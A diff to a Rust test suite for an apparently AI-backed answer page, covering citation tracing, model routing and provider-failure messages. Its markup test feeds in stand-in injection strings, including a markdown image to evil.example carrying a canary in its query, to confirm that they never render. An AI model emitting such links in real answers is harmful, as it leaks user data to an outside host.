@@ -9,7 +9,7 @@
 
 use memoria_simulator::{ChatFaults, OWNERS, ProviderDown as Down};
 
-use crate::rigs::answer::{Fault, ITEMS, body, marker, number, question, ranks, world};
+use crate::rigs::answer::{ITEMS, NamedFault, body, marker, number, question, ranks, world};
 use crate::rigs::page::Page;
 use crate::rigs::sim::{check, fail, run_world};
 use crate::{Case, Ctx, Failure, Gate};
@@ -179,7 +179,14 @@ fn every_number_traces(ctx: &mut Ctx) -> Result<(), Failure> {
                 rank[&other]
             ));
         }
-        reply.push_str(&format!("Together 9,999,999 [{}].", rank[&0]));
+        // A sum, a traced number beside an untraced one, digits of another
+        // script, a digit glued to letters, and a number inside a longer one.
+        let r0 = rank[&0];
+        reply.push_str(&format!(
+            "Together 9,999,999 [{r0}]. Budget {} and 9,999,999 [{r0}]. Budget \u{663}\u{66c}\u{660}\u{660}\u{660} [{r0}]. Q7 rose [{r0}]. It was {} [{r0}].",
+            number(0),
+            &number(0)[2..]
+        ));
         stub.push_chat_reply(&reply);
         let (_, _, p) = page(&mut m, &q).await;
         let links: Vec<String> = p.citations().iter().map(|c| c.link.clone()).collect();
@@ -209,6 +216,24 @@ fn every_number_traces(ctx: &mut Ctx) -> Result<(), Failure> {
                 .iter()
                 .all(|(t, _)| !t.contains("9,999,999") && !t.contains("again")),
             "the sum and the miscited numbers are not rendered",
+            format!("{sentences:?}"),
+        )?;
+        // A number the asker typed is not a passage's: the question's
+        // digits trace to nothing.
+        let q2 = format!("why did the {canary} plan change in 2031?");
+        let (_, _, first) = page(&mut m, &q2).await;
+        let rank = ranks(&first, ITEMS);
+        stub.push_chat_reply(&format!(
+            "In 2031 it changed [{}]. Budget {} [{}].",
+            rank[&0],
+            number(0),
+            rank[&0]
+        ));
+        let (_, _, p) = page(&mut m, &q2).await;
+        let sentences = p.answer_sentences();
+        check(
+            sentences.len() == 1 && sentences[0].0.contains(&number(0)),
+            "only the traced sentence renders: the question's own number traces to no passage",
             format!("{sentences:?}"),
         )
     })
@@ -249,17 +274,18 @@ fn markup_never_renders(ctx: &mut Ctx) -> Result<(), Failure> {
     run_world(&world, move |mut m| async move {
         m.warmed_up().await?;
         stub.push_chat_reply(&format!(
-            "See the plan ![chart](https://evil.example/p.png?d={canary}) [1]. Read [the notes](https://evil.example/r) first [1]. It held <img src=\"https://evil.example/i\"><b>firm</b> [2]. Go to https://evil.example/u now [2]."
+            "See the plan ![chart](https://evil.example/p.png?d={canary}) [1]. Read [the notes](https://evil.example/r) first [1]. It held <img src=\"https://evil.example/i\"><b>firm</b> [2]. Go to https://evil.example/u now [2]. Entity &lt;img src=&quot;https://evil.example/e&quot;&gt; here [2]. Or WWW.evil.example/w too [2].\n\nhttps://evil.example/n holds it [3]. See:https://evil.example/c [3]."
         ));
         let (_, body, p) = page(&mut m, &q).await;
         let sentences = p.answer_sentences();
         check(
-            sentences.len() == 4,
-            "the four cited sentences render (presence)",
+            sentences.len() == 8,
+            "the eight cited sentences render (presence)",
             format!("{sentences:?}"),
         )?;
         check(
-            !body.contains("evil.example") && !body.contains(&format!("d={canary}")),
+            !body.to_ascii_lowercase().contains("evil.example")
+                && !body.contains(&format!("d={canary}")),
             "the host and the image's URL are nowhere on the page",
             "they are",
         )?;
@@ -312,6 +338,20 @@ fn route_and_model_printed(ctx: &mut Ctx) -> Result<(), Failure> {
             "the answer prints its route, the provider and the frontier id",
             format!("{meta:?}"),
         )?;
+        // Exactly three documents is a synthesis (§8.2: "≥3").
+        let three = format!(
+            "why did {} {} {} move?",
+            marker(&canary, 0),
+            marker(&canary, 1),
+            marker(&canary, 3)
+        );
+        let (_, _, p) = page(&mut m, &three).await;
+        let last = stub.chat_requests().last().and_then(|r| r.model.clone());
+        check(
+            p.citations().len() == 3 && last.as_deref() == Some(memoria::MODEL_FRONTIER),
+            "a question over exactly three documents asks model.frontier",
+            format!("{} results, {last:?}", p.citations().len()),
+        )?;
         let (_, _, p) = page(&mut m, &one).await;
         check(
             p.citations().len() == 1,
@@ -351,20 +391,43 @@ fn failed_provider(ctx: &mut Ctx) -> Result<(), Failure> {
             "with the provider well, the page answers above its list (presence)",
             format!("{:?}", good.answer_sentences()),
         )?;
-        let faults: [Fault; 6] = [
-            ("503", |s| s.set_chat_down(Some(Down::Status(503)))),
-            ("a dropped connection", |s| {
-                s.set_chat_down(Some(Down::Refuse))
-            }),
-            ("past the deadline", |s| {
-                s.set_chat_slow(Some(memoria::answer::ANSWER_DEADLINE_MS + 1_000))
-            }),
-            ("429 on every attempt", |s| s.chat_rate_limit_next(10)),
-            ("a malformed body", |s| s.set_chat_malformed(true)),
-            ("a 5 MB body", |s| s.set_chat_oversized(true)),
+        let faults: [NamedFault; 8] = [
+            ("503", |s| s.set_chat_down(Some(Down::Status(503))), "503"),
+            (
+                "a dropped connection",
+                |s| s.set_chat_down(Some(Down::Refuse)),
+                "could not be reached",
+            ),
+            (
+                "past the deadline",
+                |s| s.set_chat_slow(Some(memoria::answer::ANSWER_DEADLINE_MS + 1_000)),
+                "within 12000 ms",
+            ),
+            (
+                "429 on every attempt",
+                |s| s.chat_rate_limit_next(10),
+                "429",
+            ),
+            (
+                "a malformed body",
+                |s| s.set_chat_malformed(true),
+                "not a chat completion",
+            ),
+            ("a 5 MB body", |s| s.set_chat_oversized(true), "is over"),
+            (
+                "an empty completion",
+                |s| s.set_chat_default_reply(Some("")),
+                "no reply text",
+            ),
+            (
+                "a reply cut at its length limit",
+                |s| s.set_chat_truncated(true),
+                "length limit",
+            ),
         ];
-        for (name, set) in faults {
+        for (name, set, named) in faults {
             stub.set_chat_faults(ChatFaults::default());
+            stub.set_chat_default_reply(Some("It changed [1]."));
             set(&stub);
             let (status, _, p) = page(&mut m, &q).await;
             check(
@@ -379,8 +442,10 @@ fn failed_provider(ctx: &mut Ctx) -> Result<(), Failure> {
             )?;
             let loud = p.texts("p.answer-failed");
             check(
-                loud.len() == 1 && loud[0].starts_with("No answer: TensorX"),
-                format!("with {name}, one loud line names TensorX and what failed"),
+                loud.len() == 1
+                    && loud[0].starts_with("No answer: TensorX")
+                    && loud[0].contains(named),
+                format!("with {name}, one loud line names TensorX and what failed ({named:?})"),
                 format!("{loud:?}"),
             )?;
             check(
@@ -410,6 +475,9 @@ fn model_free_routes(ctx: &mut Ctx) -> Result<(), Failure> {
             ("navigational", format!("where is the {canary} plan")),
             ("numeric", format!("what is the average {canary} budget")),
             ("who knows", format!("who knows about the {canary} plan")),
+            ("navigational", format!("Where is the {canary} plan")),
+            ("numeric", format!("How many {canary} plans are there")),
+            ("who knows", format!("Who wrote the {canary} plan")),
         ] {
             let (_, _, p) = page(&mut m, &query).await;
             let line = p.texts("p.route");
